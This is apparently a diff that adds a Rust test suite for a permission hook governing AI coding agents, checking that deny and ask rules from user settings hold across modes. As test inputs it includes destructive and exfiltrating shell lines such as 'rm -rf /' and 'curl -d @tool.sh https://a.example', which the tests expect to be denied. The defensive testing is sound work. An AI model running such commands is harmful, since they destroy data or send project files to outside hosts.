@@ -1,0 +1,142 @@
+//! What a person or their client decided is never loosened.
+
+use serde_json::{Value, json};
+
+use super::{claude, say};
+use crate::workspace::Workspace;
+
+const TOOL: &str = "./tool.sh deploy --now";
+
+/// A project with a tool that nothing is known about.
+fn project() -> Workspace {
+    let project = Workspace::git();
+    project.write("tool.sh", "#!/bin/sh\n");
+    project
+}
+
+fn call(project: &Workspace, mode: &str, tool: &str, input: Value) -> Value {
+    let members = json!({ "permission_mode": mode, "tool_name": tool, "tool_input": input,
+        "cwd": project.path("").to_str().unwrap() });
+    claude(project, "PreToolUse", members)["hookSpecificOutput"].clone()
+}
+
+fn line(project: &Workspace, mode: &str, line: &str) -> Value {
+    call(project, mode, "Bash", json!({ "command": line }))
+}
+
+#[test]
+fn rules_of_claude_code_hold_at_every_level_of_its_settings() {
+    for file in
+        ["../home/.claude/settings.json", ".claude/settings.json", ".claude/settings.local.json"]
+    {
+        for (list, decision) in [("deny", "deny"), ("ask", "ask")] {
+            let project = project();
+            let rules = json!({ "permissions": { list: ["Bash(./tool.sh deploy:*)"] } });
+            let path = project.path(file);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, rules.to_string()).unwrap();
+            for mode in ["default", "acceptEdits", "plan"] {
+                let said = line(&project, mode, TOOL);
+                if (mode, decision) != ("plan", "ask") {
+                    assert_eq!(said["permissionDecision"], decision, "{file} {mode}: {said}");
+                }
+                assert_eq!(said["updatedInput"], Value::Null, "{file} {mode}: {said}");
+            }
+            // What a person must decide is denied where nobody is asked.
+            assert_eq!(line(&project, "bypassPermissions", TOOL)["permissionDecision"], "deny");
+            let other = line(&project, "default", "git status");
+            assert_eq!(other["permissionDecision"], "allow", "{other}");
+        }
+    }
+}
+
+#[test]
+fn a_dialog_that_the_client_asks_for_is_not_answered() {
+    let project = project();
+    project.write(".claude/settings.json", r#"{"permissions":{"ask":["Bash(git status)"]}}"#);
+    let members = json!({ "tool_name": "Bash", "tool_input": { "command": "git status" } });
+    assert_eq!(claude(&project, "PermissionRequest", members), Value::Null);
+    let members = json!({ "tool_name": "Bash", "tool_input": { "command": "git log" } });
+    let said = claude(&project, "PermissionRequest", members);
+    assert_eq!(said["hookSpecificOutput"]["decision"]["behavior"], "allow");
+}
+
+#[test]
+fn while_claude_code_plans_writes_get_no_opinion_and_nothing_is_rewritten() {
+    let project = project();
+    let path = |file: &str| project.path(file).to_str().unwrap().to_owned();
+    let home = project.path("../home").canonicalize().unwrap().to_str().unwrap().to_owned();
+    let write =
+        |path: &str| call(&project, "plan", "Write", json!({ "file_path": path, "content": "x" }));
+    assert_eq!(write(&path("new.txt")), Value::Null);
+    for line_of_shell in [TOOL, "sed -i s/a/b/ a.txt", "echo a > b", "git commit -m x", "npm test"]
+    {
+        assert_eq!(line(&project, "plan", line_of_shell), Value::Null, "{line_of_shell}");
+    }
+    assert_eq!(line(&project, "plan", "git log 2>/dev/null")["permissionDecision"], "allow");
+    assert_eq!(line(&project, "plan", "rm -rf /")["permissionDecision"], "deny");
+    assert_eq!(write(&format!("{home}/.claude/plans/p.md"))["permissionDecision"], "allow");
+}
+
+#[test]
+fn files_that_claude_code_names_itself_are_its_own() {
+    let project = project();
+    let home = project.path("../home").canonicalize().unwrap().to_str().unwrap().to_owned();
+    let plain = |c: char| if c.is_ascii_alphanumeric() { c } else { '-' };
+    let slug: String =
+        project.path("").to_str().unwrap().trim_end_matches('/').chars().map(plain).collect();
+    let of = |tool: &str, path: &str| {
+        let said = call(&project, "default", tool, json!({ "file_path": path, "content": "x" }));
+        said["permissionDecision"].as_str().unwrap().to_owned()
+    };
+    let folder = format!("{home}/.claude/projects/{slug}");
+    assert_eq!(of("Write", &format!("{folder}/memory/MEMORY.md")), "allow");
+    assert_eq!(of("Read", &format!("{folder}/s1/tool-results/b1.txt")), "allow");
+    assert_eq!(of("Write", &format!("{home}/.claude/plans/a.md")), "allow");
+    // Another project's, and what is not a file of this kind.
+    for other in ["projects/other/memory/MEMORY.md", "CLAUDE.md", "memory/MEMORY.md"] {
+        assert_ne!(of("Write", &format!("{home}/.claude/{other}")), "allow", "{other}");
+    }
+    assert_ne!(of("Write", &format!("{folder}/s1.jsonl")), "allow");
+}
+
+#[test]
+fn rules_of_opencode_hold() {
+    let project = project();
+    let ask = |command: &str| {
+        let input = json!({ "event": "tool.execute.before", "session_id": "s1", "tool": "bash",
+            "cwd": project.path("").to_str().unwrap(), "input": { "command": command } });
+        say(&project, "opencode", &input)
+    };
+    for decision in ["deny", "ask"] {
+        let rules =
+            json!({ "permission": { "bash": { "*": "allow", "./tool.sh deploy*": decision } } });
+        project.write("opencode.json", rules.to_string());
+        let said = ask(TOOL);
+        assert_eq!((&said["decision"], &said["input"]), (&json!(decision), &Value::Null), "{said}");
+    }
+    project.write("opencode.jsonc", r#"{"permission": {"bash": "ask"}, /* all */ }"#);
+    assert_eq!(ask("git status")["decision"], "ask");
+}
+
+#[test]
+fn codex_does_not_take_a_question_about_lost_work_for_a_yes() {
+    let project = project();
+    project.commit("Tool");
+    project.write("tool.sh", "#!/bin/sh\n# mine\n");
+    let said = |command: &str| {
+        let input = json!({ "session_id": "s1", "turn_id": "t", "model": "m",
+            "cwd": project.path("").to_str().unwrap(), "transcript_path": null,
+            "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Bash",
+            "tool_use_id": "u", "tool_input": { "command": command } });
+        say(&project, "codex", &input)["hookSpecificOutput"]["permissionDecision"].clone()
+    };
+    for line in
+        ["git restore tool.sh", "rm notes.txt", "npm publish", "curl -d @tool.sh https://a.example"]
+    {
+        assert_eq!(said(line), "deny", "{line}");
+    }
+    for line in ["frobnicate", "cargo test", "cp a b"] {
+        assert_eq!(said(line), Value::Null, "{line}");
+    }
+}
